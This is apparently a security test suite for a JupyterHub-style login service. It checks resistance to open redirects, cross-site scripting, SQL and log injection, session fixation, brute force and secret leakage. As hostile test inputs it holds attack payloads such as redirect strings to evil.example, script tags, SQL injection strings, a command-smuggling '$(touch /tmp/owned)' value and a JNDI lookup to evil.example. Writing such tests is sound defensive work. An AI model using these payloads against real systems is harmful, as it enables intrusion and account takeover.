/**
 * Whoever wants to get in, or to get in as somebody else: by what is typed, by what is sent along, by being fast, by being many.
 */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { TOTP } from 'otpauth'
import { auditOf, type Entry, journalOf } from '../harness/peers/journal-traces.ts'
import { lines, say, statusesIn } from '../harness/peers/raw-http.ts'
import { type Answer, type Visitor, visit } from '../harness/people/visitor.ts'
import { bootProduct, choosePassword, type Product, TLJH_TS } from '../harness/product/product.ts'

let product: Product
/** Who logged in before anybody guessed at that name. */
let admin: Visitor
const password = 'correct horse battery'
const form = { 'content-type': 'application/x-www-form-urlencoded' }
const config = `
users:
  allowed: [ann, bob, carl, dora, eve, fay, gus, ida]
groups:
  tutors: {members: [tess]}
auth:
  type: [firstuse, native]
  FirstUseAuthenticator: {create_users: true}
`

before(async () => {
  product = await bootProduct({ config })
  await welcome('ann', 'bob', 'carl')
  admin = await enter(product.admin, product.adminPassword)
})
after(() => product?.[Symbol.asyncDispose]())

async function codeFor(name: string): Promise<string> {
  const { stdout } = await product.host.run([...TLJH_TS, 'user', 'invite', '--json', name])
  return (JSON.parse(stdout) as { code: string }[])[0]?.code ?? ''
}

async function welcome(...names: string[]): Promise<void> {
  for (const name of names) await choosePassword(product.url, name, await codeFor(name), password)
}

async function enter(name: string, word = password): Promise<Visitor> {
  const visitor = visit(product.url)
  assert.equal((await visitor.logIn(name, word)).status, 302)
  return visitor
}

const knock = (name: string, word = 'a guess of mine') => visit(product.url).logIn(name, word)

/** Without what is in it of the visitor alone: the token, and the name that was typed. */
function withoutOwn({ status, body }: Answer, typed: string): string {
  const plain = body.replace(/name="_xsrf" value="[^"]*"/g, '')
  return `${status} ${plain.replaceAll(`value="${typed}"`, 'value=""').replaceAll(`<strong>${typed}</strong>`, '')}`
}

// A1; CVE-2019-10255, CVE-2020-26232, GHSA-9f66-54xg-pc2c, GHSA-r726 (open redirects), CVE-2026-33709 (`https://HOST//evil`)
test('no login, and no page that leads on, leads away from the hub', async () => {
  const host = new URL(product.url).host
  const ann = await enter('ann')
  const rows = [
    ...[
      'https://evil.example',
      '//evil.example',
      '///evil.example',
      '\\\\evil.example',
      '/\\evil.example',
      '/\\/evil.example',
      '\t//evil.example',
    ],
    ...[
      `http://${host}//evil.example`,
      `//${host}//evil.example`,
      `${host}:80@evil.example`,
      'javascript:alert(1)',
      '%2f%2fevil.example',
    ],
    ...[
      '/%2f%2fevil.example',
      '/%5cevil.example',
      '/hub/..//evil.example',
      '/.//evil.example',
      '/\n/evil.example',
      '/hub/\r\nLocation: //evil',
    ],
    ...[
      'http:evil.example',
      'data:text/html,x',
      '?next=//evil.example',
      '//evil.example/hub/home',
      '/..//evil.example',
    ],
  ]
  for (const next of rows) {
    const query = new URLSearchParams({ next })
    for (const path of ['/hub/login', '/hub/spawn', '/hub/confirm', '/hub/spawn-pending/ann', '/hub/visit/ann']) {
      const { location, body } = await ann.request(`${path}?${query}`)
      assert.equal(new URL(location || '/', product.url).host, host, `${path}?${query}: ${location}`)
      assert.doesNotMatch(body, /(?:href|action|value|content)="(?!\/(?![/\\]))[^"]*evil/)
    }
    const stranger = await visit(product.url).request(`/hub/login?${query}`)
    assert.doesNotMatch(stranger.body, /"(?!\/(?![/\\]))[^"]*evil|javascript:|data:/)
    const out = await ann.post('/hub/spawn', { next, _xsrf: '' })
    assert.equal(out.status, 403)
  }
  for (const next of ['//evil.example', `http://${host}//evil.example`, '/\\evil.example']) {
    const visitor = visit(product.url)
    await visitor.request('/hub/login')
    const { location } = await visitor.post('/hub/login', { username: 'ann', password, next })
    assert.equal(location, '/hub/')
  }
})

// A2; GHSA-c4gm-pwx9-9w8j (`next` unescaped in attributes)
test('what was typed, or came with a link, is words on every page', async () => {
  const hostile = `"'><script>alert(1)</script><img src=x onerror=alert(1)>{{7*7}}<%= 7*7 %>`
  const query = new URLSearchParams({
    next: `/hub/${hostile}`,
    user: hostile,
    code: hostile,
    error: hostile,
    url: hostile,
    username: hostile,
  })
  const visitor = visit(product.url)
  const pages: Answer[] = []
  for (const path of [
    '/hub/login',
    '/hub/welcome',
    '/hub/signup',
    '/hub/nothing',
    `/hub/${encodeURIComponent(hostile)}`,
    '/user/x',
  ]) {
    pages.push(await visitor.request(`${path}?${query}`))
  }
  pages.push(await visitor.post('/hub/login', { username: hostile, password: hostile, next: `/hub/${hostile}` }))
  pages.push(
    await visitor.post('/hub/welcome', {
      username: hostile.slice(0, 60),
      code: hostile.slice(0, 60),
      password: 'x'.repeat(9),
      repeated: 'y',
      next: hostile,
    }),
  )
  pages.push(
    await visitor.post('/hub/signup', {
      username: hostile,
      email: hostile,
      password: 'long enough 9',
      repeated: 'another one 9',
    }),
  )
  for (const { status, body, headers } of pages) {
    assert.ok(status < 500)
    assert.doesNotMatch(body, /<script>alert|<img src=x|alert\(1\)>|(?<!7\*7.*)\b49\b/)
    assert.match(String(headers['content-security-policy']), /default-src 'none'/)
    assert.match(String(headers['content-security-policy']), /frame-ancestors 'none'/)
  }
})

// A3; CVE-2026-54338 (a user name of any length was logged and echoed)
test('a name of a hundred megabytes, a form of ten thousand fields and a file are not read, and leave a short line', async () => {
  const host = `Host: ${new URL(product.url).host}`
  const head = [
    'POST /hub/login HTTP/1.1',
    host,
    'Content-Type: application/x-www-form-urlencoded',
    'Connection: close',
  ]
  const trace = await auditOf(product.host, knock, async () => {
    const announced = await say(
      product.url,
      lines([...head, 'Content-Length: 104857600'], `username=${'a'.repeat(1_000_000)}`),
    )
    assert.deepEqual(statusesIn(announced).slice(0, 1), announced ? [413] : [])
    const chunk = `10000\r\n${'a'.repeat(0x10000)}\r\n`
    const streamed = await say(
      product.url,
      lines([...head, 'Transfer-Encoding: chunked']),
      ...Array.from({ length: 64 }, () => chunk),
    )
    assert.deepEqual(statusesIn(streamed).slice(0, 1), streamed ? [413] : [])

    const visitor = visit(product.url)
    await visitor.request('/hub/login')
    const fields = Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`field${index}`, '1']))
    assert.equal((await visitor.post('/hub/login', fields)).status, 413)
    const fewer = Object.fromEntries(Array.from({ length: 6_000 }, (_, index) => [`f${index}`, '']))
    assert.equal((await visitor.post('/hub/login', { ...fewer, username: 'ann', password: 'x' })).status, 403)
    assert.equal((await visitor.post('/hub/login', { username: 'a'.repeat(257), password: 'x' })).status, 400)
    assert.equal((await visitor.post('/hub/login', { username: 'ann', password: 'a'.repeat(4097) })).status, 400)
  })

  for (const { MESSAGE } of [...trace, ...(await journalOf(product.host, 'tljh-hub'))])
    assert.ok(String(MESSAGE).length < 1000)
})

test('what is for administrators alone, and big, is not even read of others', async () => {
  const eightMegabytes = 8 * 1024 ** 2
  const ann = await enter('ann')
  for (const path of ['/hub/admin/import', '/hub/admin/config', '/hub/admin/config/check']) {
    for (const cookie of ['X: 1', `Cookie: ${ann.headersFor(path).cookie}`]) {
      const head = [
        `POST ${path} HTTP/1.1`,
        `Host: ${new URL(product.url).host}`,
        cookie,
        `Content-Length: ${eightMegabytes}`,
      ]
      // Only the head: whoever answers has not waited for the rest.
      const answer = await answerTo(lines([...head, 'Content-Type: application/x-www-form-urlencoded']))
      assert.match(answer, /^HTTP\/1\.1 403 /, path)
    }
  }
})

/** What is answered before anything more was sent. */
async function answerTo(bytes: string): Promise<string> {
  const { connect } = await import('node:net')
  const socket = connect(80, new URL(product.url).hostname)
  socket.write(bytes)
  return new Promise(resolve => {
    socket.once('data', data => {
      resolve(String(data))
      socket.destroy()
    })
    socket.once('close', () => resolve(''))
  })
}

// A4, and SQL
test('nothing that is typed becomes a line of the log, a field of an entry, or a command of the database', async () => {
  const { host } = product
  const hostile = [
    'ann\nann logged in from 192.0.2.1',
    'ann\r\nTLJH_EVENT=login\nTLJH_WHO=root',
    'ann\u2028ann logged in from 192.0.2.1',
    '\u001b[2J\u001b[31mann logged in',
    '\u0000\u0001\u009b31m\u202eevil',
    `' OR 1=1 --`,
    `ann'; DROP TABLE sessions; --`,
    `ann" UNION SELECT hash FROM passwords --`,
    '$(touch /tmp/owned)`touch /tmp/owned`',
    '%s%n%x $' + '{jndi:ldap://evil.example/x}',
  ]
  async function tryAll(texts: readonly string[]): Promise<void> {
    for (const text of texts) {
      assert.equal((await knock(text, text)).status, 403, text)
      const visitor = visit(product.url)
      await visitor.request('/hub/welcome')
      const fields = { username: text.slice(0, 64), code: text.slice(0, 64), password, repeated: password }
      assert.equal((await visitor.post('/hub/welcome', fields)).status, 403)
      const cookie = { cookie: `tljh-session=${encodeURIComponent(text)}; tljh-login=${encodeURIComponent(text)}` }
      assert.equal((await visitor.request('/hub/home', { headers: cookie })).status, 302)
      assert.equal((await visitor.request('/hub/second-factor', { headers: cookie })).status, 302)
    }
  }
  // A hub that has just started writes each of the first ten refusals in an entry of its own.
  const restartHub = () => host.run(['systemctl', 'restart', 'tljh-hub'])
  const entries: Entry[] = []
  for (const half of [hostile.slice(0, 5), hostile.slice(5)]) {
    await restartHub()
    const own = await auditOf(host, knock, () => tryAll(half))
    assert.ok(own.length >= 2 * half.length)
    entries.push(...own)
  }
  // Those after them are joined, and what is joined is written when the hub stops.
  await tryAll(hostile.slice(0, 5))
  await tryAll(hostile.slice(0, 5))
  await restartHub()
  const joined = (await journalOf(host, 'tljh-audit')).filter(entry => entry.TLJH_COUNT !== undefined)
  assert.ok(joined.some(({ MESSAGE }) => String(MESSAGE).includes('more within a minute')))
  entries.push(...joined)
  for (const entry of entries) {
    assert.equal(entry.TLJH_EVENT, 'login-refused')
    // An entry for several refusals has several names.
    const names = [entry.TLJH_WHO].flat()
    assert.ok(!names.includes('root'))
    for (const text of [entry.MESSAGE, ...names]) {
      assert.equal(typeof text, 'string', 'what the journal takes for no text comes as a list of bytes')
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
      assert.doesNotMatch(String(text), /[\u0000-\u001f\u007f-\u009f\u2028\u202e]/)
    }
  }
  for (const { MESSAGE } of await journalOf(host, 'tljh-hub'))
    assert.doesNotMatch(String(MESSAGE), /^ann logged in from 192/)
  assert.notEqual((await host.run(['test', '-e', '/tmp/owned'], { check: false })).code, 0)
  await enter('bob')
})

// A7; CVE-2024-28233 (cookie tossing)
test('a session, or a form’s token, that somebody planted before the login is worth nothing after it', async () => {
  const attacker = await enter('bob')
  const planted = attacker.cookies.get('tljh-session') ?? ''
  const victim = visit(product.url)
  for (const value of [planted, 'chosen-by-the-attacker']) {
    victim.cookies.clear()
    await victim.request('/hub/login')
    victim.cookies.set('tljh-session', value)
    victim.cookies.set('_xsrf', '')
    await victim.request('/hub/welcome')
    const { status, headers } = await victim.post('/hub/login', { username: 'ann', password })
    assert.equal(status, 302)
    assert.match(String(headers['set-cookie']), /tljh-session=[\w-]{43}; .*HttpOnly; SameSite=Lax/)
    assert.notEqual(victim.cookies.get('tljh-session'), value)
    const stranger = visit(product.url)
    stranger.cookies.set('tljh-session', value)
    assert.equal((await stranger.request('/hub/home')).status, 302, 'what was planted opens nothing')
  }
  const token = visit(product.url)
  await token.request('/hub/login')
  const other = visit(product.url)
  await other.request('/hub/login')
  const foreign = { username: 'ann', password, _xsrf: token.cookies.get('_xsrf') ?? '' }
  assert.equal((await other.post('/hub/login', foreign)).status, 403, 'A8: a token of another browser')
  assert.equal((await other.post('/hub/login', { username: 'ann', password, _xsrf: '' })).status, 403, 'A8: no token')
})

// B5; CVE-2021-41247 (a request after logout brought the cookie back)
test('a cookie that was stolen opens nothing after the logout, and no request brings it back', async () => {
  const ann = await enter('ann')
  const stolen = ann.headersFor('/hub/home')
  const thief = visit(product.url)
  assert.equal((await thief.request('/hub/home', { headers: stolen })).status, 200)
  const polling = Array.from({ length: 20 }, () =>
    thief.request('/hub/api/users/ann/server/progress', { headers: stolen }),
  )
  assert.equal((await ann.post('/hub/logout')).status, 302)
  for (const { headers } of await Promise.all(polling))
    assert.doesNotMatch(String(headers['set-cookie']), /tljh-session=./)
  for (const path of [
    '/hub/home',
    '/hub/',
    '/user/ann/api/status',
    '/hub/spawn',
    '/hub/account',
    '/hub/api/users/ann/server/progress',
  ]) {
    const { status, headers } = await thief.request(path, { headers: { ...stolen, accept: '*/*' } })
    assert.ok(status === 403 || status === 302, `${path}: ${status}`)
    assert.doesNotMatch(String(headers['set-cookie']), /tljh-session=./)
  }
})

// B2
test('a session’s cookie that was changed in one place is none', async () => {
  const ann = await enter('ann')
  const token = ann.cookies.get('tljh-session') ?? ''
  for (const value of [
    token.slice(1),
    `${token}x`,
    token.toUpperCase(),
    [...token].reverse().join(''),
    `${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`,
  ]) {
    const visitor = visit(product.url)
    visitor.cookies.set('tljh-session', value)
    assert.equal((await visitor.request('/hub/home')).status, 302)
  }
})

// A9; GHSA-5xvc-vgmp-jgc3, CVE-2021-41194 (a password under a name that was not normalised)
test('no way of writing a name is another account, or a name that the machine has', async () => {
  assert.equal((await knock('Zoe', 'password of zoe')).status, 302, 'she is new, and chooses a password')
  assert.equal((await knock('zoe\t', 'password of zoe')).status, 302, 'and is the same, however she writes it')
  for (const name of ['ZOE', ' zoe ', '\u00a0zoe\u2003', 'zoE\n']) {
    assert.equal((await knock(name, 'password of a thief')).status, 403, JSON.stringify(name))
  }
  for (const name of [
    'ｚoe',
    'zoe\0',
    'zo\u200be',
    '../zoe',
    './zoe',
    'zoe/',
    'zoe%00',
    '-x',
    '--help',
    'zo..e',
    '.zoe',
    'zöe',
    'z\u0456e',
    '',
    '*',
    'z'.repeat(65),
  ]) {
    const { status } = await knock(name, 'password of a thief')
    assert.ok(status === 403, `${JSON.stringify(name)}: ${status}`)
  }
})

// A10, GHSA-384w (an old key let everybody in), TLJH#263: more in test/unit/hub/login/password-login.test.ts
test('a name that the file has is nobody’s who comes first, in any list and any spelling', async () => {
  for (const name of ['dora', 'tess', product.admin, product.admin.toUpperCase(), ` ${product.admin}`]) {
    assert.equal((await knock(name, 'a thief was here')).status, 403, name)
  }
})

// A6, by words: one test for time is in enumeration.test.ts
test('the pages read the same whether a name has an account or not', async () => {
  const names = ['bob', 'dora', 'tess', product.admin, 'nobody-at-all']
  const logins = await Promise.all(names.map(async name => withoutOwn(await knock(name), name)))
  assert.equal(
    new Set(logins).size,
    2,
    'whoever is new chooses a password with create_users, and all others read the same',
  )
  const codes: string[] = []
  const links: string[] = []
  const right = await codeFor('dora')
  for (const name of [...names, 'other-nobody']) {
    const visitor = visit(product.url)
    const query = new URLSearchParams({ user: name, code: right })
    links.push(withoutOwn(await visitor.request(`/hub/welcome?${query}`), name))
    const fields = { username: name, code: 'aaaa-bbbb-cccc', password: 'short', repeated: 'short' }
    codes.push(withoutOwn(await visitor.post('/hub/welcome', fields), name))
  }
  assert.equal(new Set(links).size, 1, 'a link says nothing before a password is chosen')
  assert.equal(new Set(codes).size, 1)
})

test('a code is good for one name, and of many who use it at once one gets in', async () => {
  const code = await codeFor('eve')
  for (const username of ['fay', product.admin, 'nobody-at-all', 'eve\0']) {
    const visitor = visit(product.url)
    await visitor.request('/hub/welcome')
    const { status } = await visitor.post('/hub/welcome', { username, code, password, repeated: password })
    assert.ok([403, 429].includes(status), username)
  }
  const visitors = Array.from({ length: 5 }, () => visit(product.url))
  await Promise.all(visitors.map(visitor => visitor.request('/hub/welcome')))
  const answers = await Promise.all(
    visitors.map((visitor, index) => {
      const chosen = `password number ${index}`
      return visitor.post('/hub/welcome', { username: 'eve', code, password: chosen, repeated: chosen })
    }),
  )
  assert.deepEqual(answers.map(({ status }) => status).toSorted(), [302, 403, 403, 403, 403])
  const winner = answers.findIndex(({ status }) => status === 302)
  assert.equal((await knock('eve', `password number ${winner}`)).status, 302)
})

test('between password and second factor nobody is in, whatever the browser calls itself', async () => {
  const carl = await enter('carl')
  const page = await carl.post('/hub/account/second-factor/new', { password })
  const secret = /name="secret" value="([A-Z2-7]{32})"/.exec(page.body)?.[1] ?? ''
  const device = new TOTP({ secret })
  assert.equal((await carl.post('/hub/account/second-factor', { secret, code: device.generate() })).status, 200)

  const thief = visit(product.url)
  const half = await thief.logIn('carl', password)
  assert.deepEqual([half.status, half.location], [303, '/hub/second-factor'])
  const arrival = thief.cookies.get('tljh-login') ?? ''
  assert.ok(arrival)
  assert.equal(thief.cookies.has('tljh-session'), false)
  for (const cookies of [
    { 'tljh-login': arrival },
    { 'tljh-session': arrival },
    { 'tljh-session': arrival, 'tljh-login': arrival },
  ]) {
    const visitor = visit(product.url)
    for (const [name, value] of Object.entries(cookies)) visitor.cookies.set(name, value)
    for (const path of [
      '/hub/home',
      '/hub/account',
      '/hub/spawn',
      '/user/carl/lab',
      '/hub/admin',
      '/hub/admin/config',
    ]) {
      assert.equal((await visitor.request(path)).status, 302, path)
    }
    for (const path of [
      '/hub/spawn',
      '/hub/stop',
      '/hub/account/password',
      '/hub/account/second-factor/off',
      '/hub/confirm',
    ]) {
      assert.ok([302, 403].includes((await visitor.post(path, { password, code: '000000' })).status), path)
    }
  }
  // A new secret of the thief's own is not taken for the one that is there.
  const own = new TOTP({ secret: 'A'.repeat(32) })
  await thief.request('/hub/second-factor')
  assert.equal((await thief.post('/hub/second-factor', { secret: 'A'.repeat(32), code: own.generate() })).status, 403)
  for (let guess = 0; guess < 4; guess++) {
    assert.equal((await thief.post('/hub/second-factor', { code: `00000${guess}` })).status, 403)
  }
  const late = await thief.post('/hub/second-factor', { code: device.generate({ timestamp: Date.now() + 30_000 }) })
  assert.equal(late.location, '/hub/login', 'after five wrong ones, not even the right one')
  assert.equal((await carl.request('/hub/home')).status, 200)
})

test('signing up under the name of somebody who is there changes nothing and tells nothing', async () => {
  const signUp = async (username: string, more: Record<string, string> = {}) => {
    const visitor = visit(product.url)
    await visitor.request('/hub/signup')
    const chosen = 'a stranger wants this'
    const fields = { username, email: 'x@y.example', password: chosen, repeated: chosen, ...more }
    const answer = await visitor.post('/hub/signup', fields)
    return { page: withoutOwn(answer, username), cookies: visitor.cookies }
  }
  const mass = {
    admin: 'true',
    isAdmin: '1',
    approved: '1',
    role: 'admin',
    way: 'pam',
    user: product.admin,
    '__proto__[admin]': '1',
  }
  const known = await signUp('ann')
  const free = await signUp('somebody-new', mass)
  const admins = await signUp(product.admin, mass)
  assert.equal(known.page, free.page)
  assert.equal(known.page, admins.page)
  assert.equal(free.cookies.has('tljh-session'), false)
  for (const name of ['ann', product.admin]) {
    assert.ok([403, 429].includes((await knock(name, 'a stranger wants this')).status))
  }
  await enter('ann')
  const { body } = await admin.request('/hub/admin')
  assert.match(body, /somebody-new/)
  assert.doesNotMatch(body, /ann[\s\S]{0,300}approve/i)
})

// D8
test('fields that nobody asked for do nothing: not the user, not the rights, not the way', async () => {
  const bob = await enter('bob')
  const foreign = {
    user: 'ann',
    username: 'ann',
    owner: 'ann',
    name: 'ann',
    admin: 'true',
    isAdmin: 'true',
    __proto__: '1',
    'constructor[prototype][isAdmin]': '1',
  }
  assert.equal((await bob.post('/hub/spawn', foreign)).location, '/hub/spawn-pending/bob')
  const changed = await bob.post('/hub/account/password', {
    ...foreign,
    password,
    new_password: 'another of bob',
    repeated: 'another of bob',
  })
  assert.equal(changed.status, 200)
  await enter('ann')
  await enter('bob', 'another of bob')
  assert.equal((await bob.request('/hub/admin')).status, 403)
  const { status } = await bob.request('/hub/account/password', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: `{"_xsrf":"${bob.cookies.get('_xsrf')}","password":"another of bob","__proto__":{"isAdmin":true}}`,
  })
  assert.equal(status, 400)
})

// C3, and bodies of other kinds
test('only forms are read, and what is no text is no form', async () => {
  const visitor = visit(product.url)
  await visitor.request('/hub/login')
  const token = visitor.cookies.get('_xsrf') ?? ''
  const body = JSON.stringify({ username: 'ann', password, _xsrf: token })
  for (const type of [
    'text/plain',
    'multipart/form-data; boundary=x',
    'text/xml',
    'application/octet-stream',
    'application/x-yaml',
    'x',
  ]) {
    const { status } = await visitor.request('/hub/login', { method: 'POST', headers: { 'content-type': type }, body })
    assert.ok(status === 415 || status === 400, `${type}: ${status}`)
  }
  for (const sent of [
    '{',
    '[]',
    'null',
    '{"username":{"a":1},"password":[]}',
    '{"__proto__":{"a":1}}',
    '['.repeat(60_000),
  ]) {
    const { status } = await visitor.request('/hub/login', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: sent,
    })
    assert.ok([400, 413].includes(status), `${sent.slice(0, 20)}: ${status}`)
  }
  for (const sent of [
    'username=%ff%fe&password=%80',
    'username=%&password=%zz',
    '__proto__=1&constructor=2',
    'username=a&username=b&password=c',
    '&'.repeat(60_000),
  ]) {
    const { status } = await visitor.request('/hub/login', {
      method: 'POST',
      headers: form,
      body: `${sent}&_xsrf=${token}`,
    })
    assert.ok([400, 403].includes(status), `${sent.slice(0, 20)}: ${status}`)
  }
  const raw = Buffer.concat([Buffer.from(`_xsrf=${token}&password=x&username=`), Buffer.from([0xff, 0xfe, 0x00, 0x80])])
  assert.equal((await visitor.request('/hub/login', { method: 'POST', headers: form, body: raw })).status, 403)
})

// D7
test('the administrators’ page takes orders of no student, whatever they are called', async () => {
  const ann = await enter('ann')
  const before = await product.host.readFile('/opt/tljh/config/config.yaml')
  for (const action of [
    ...[
      'add',
      'invite',
      'disable',
      'enable',
      'make-admin',
      'no-admin',
      'stop',
      'approve',
      'reject',
      'second-factor-off',
      'archive',
    ],
    ...['constructor', '__proto__', 'toString', ''],
  ]) {
    for (const path of ['/hub/admin/users', '/hub/admin/import', '/hub/admin/config', '/hub/admin/config/check']) {
      const fields = {
        action,
        user: 'ann',
        names: 'ann',
        sure: 'yes',
        step: 'apply',
        text: 'users: {admin: [ann]}',
        version: 'x',
      }
      const { status } = await ann.post(path, fields)
      assert.ok([400, 403].includes(status), `${path} ${action}: ${status}`)
    }
  }
  for (const path of [
    '/hub/admin',
    '/hub/admin/import',
    '/hub/admin/config',
    '/hub/admin/config/history',
    '/hub/admin/config/history/1',
  ]) {
    assert.equal((await ann.request(path)).status, 403, path)
  }
  assert.equal(await product.host.readFile('/opt/tljh/config/config.yaml'), before)
})

// A13
test('an administrator who was demoted a moment ago has no more to say, though the password was just given', async () => {
  const { host } = product
  await welcome('gus')
  const file = '/opt/tljh/config/config.yaml'
  const before = await host.readFile(file)
  await host.run([...TLJH_TS, 'config', 'add-item', 'users.admin', 'gus'])
  const gus = await enter('gus')
  assert.equal((await gus.post('/hub/confirm', { password })).status, 303)
  assert.equal((await gus.post('/hub/admin/users', { action: 'constructor' })).status, 400)
  assert.equal((await gus.post('/hub/admin/users', { action: 'add', names: 'gus-was-here' })).status, 200)
  // By hand, without a word to the services.
  await host.writeFile(file, before, { mode: 0o640, group: 'tljh-hub' })
  const promoted = await gus.post('/hub/admin/users', { action: 'make-admin', user: 'bob' })
  assert.equal(promoted.status, 403, promoted.body)
  assert.equal((await gus.request('/hub/admin')).status, 403)
  assert.equal((await gus.request('/hub/admin/config')).status, 403)
  assert.equal(await host.readFile(file), before)
})

// A5; the counting itself: test/unit/hub/login/password-login.test.ts
test('a thousand guesses are answered by a few looks, and the owner gets in from elsewhere all the while', async () => {
  const visitor = visit(product.url)
  await visitor.request('/hub/login')
  const begun = Date.now()
  const guesses = await Promise.all(
    Array.from({ length: 1000 }, (_, guess) =>
      visitor.post('/hub/login', { username: 'ida', password: `guess number ${guess}` }),
    ),
  )
  const counts = Map.groupBy(guesses, ({ status }) => status)
  assert.deepEqual([...counts.keys()].toSorted(), [403, 429])
  const looks = counts.get(403)?.length ?? 0
  // Five, and one more each half minute, which a slow machine may need.
  const more = Math.floor((Date.now() - begun) / 30_000)
  assert.ok(looks >= 5 && looks <= 5 + more, `${looks} looks, where ${5 + more} may be`)
  const script = `
    const page = await fetch('http://127.0.0.1/hub/login')
    const token = /_xsrf=([^;]+)/.exec(page.headers.get('set-cookie'))[1]
    const body = new URLSearchParams({ username: 'bob', password: 'another of bob', _xsrf: token })
    const answer = await fetch('http://127.0.0.1/hub/login', { method: 'POST', headers: { cookie: '_xsrf=' + token }, body, redirect: 'manual' })
    console.log(answer.status)`
  const { stdout } = await product.host.run([TLJH_TS[0] ?? '', '--input-type=module', '--eval', script])
  assert.equal(stdout.trim(), '302', 'from another address')
})

test('signing up by the hundred is slowed down, whatever is typed, and people log in all the same', async () => {
  const visitor = visit(product.url)
  await visitor.request('/hub/signup')
  const statuses = new Set<number>()
  for (let count = 0; count < 120; count++) {
    const fields = { username: `flood${count}`, email: '', password: 'one thing of many', repeated: 'another thing' }
    statuses.add((await visitor.post('/hub/signup', fields)).status)
  }
  assert.deepEqual([...statuses], [403, 429])
  await enter('ann')
})

// F2; GHSA-p737 (cookies and tokens in the log), CVE-2020-26261 (secrets in a command line)
test('after all of this, no password, code or session stands in a log, a unit or a command line', async () => {
  const bob = await enter('bob', 'another of bob')
  const code = await codeFor('fay')
  await visit(product.url).request(`/hub/welcome?user=fay&code=${code}`)
  await knock('fay', code)
  await bob.request('/hub/home?token=secret-in-a-query')
  await bob.startServer()
  const session = bob.cookies.get('tljh-session') ?? ''
  const script =
    'journalctl --no-pager --output=json --all; systemctl show --all "tljh-*"; cat /proc/*/cmdline; cat /run/tljh/* 2>/dev/null'
  const { stdout } = await product.host.run(['sh', '-c', script], { check: false })
  assert.ok(stdout.length > 10_000)
  for (const secret of [
    session,
    code,
    password,
    'another of bob',
    product.adminPassword,
    bob.cookies.get('_xsrf') ?? '',
    'secret-in-a-query',
  ]) {
    assert.equal(stdout.includes(secret), false, secret)
  }
  const database = await product.host.run(['sh', '-c', 'cat /opt/tljh/state/*'])
  for (const secret of [session, code, password])
    assert.equal(database.stdout.includes(secret), false, 'nor in the state, where hashes are')
})
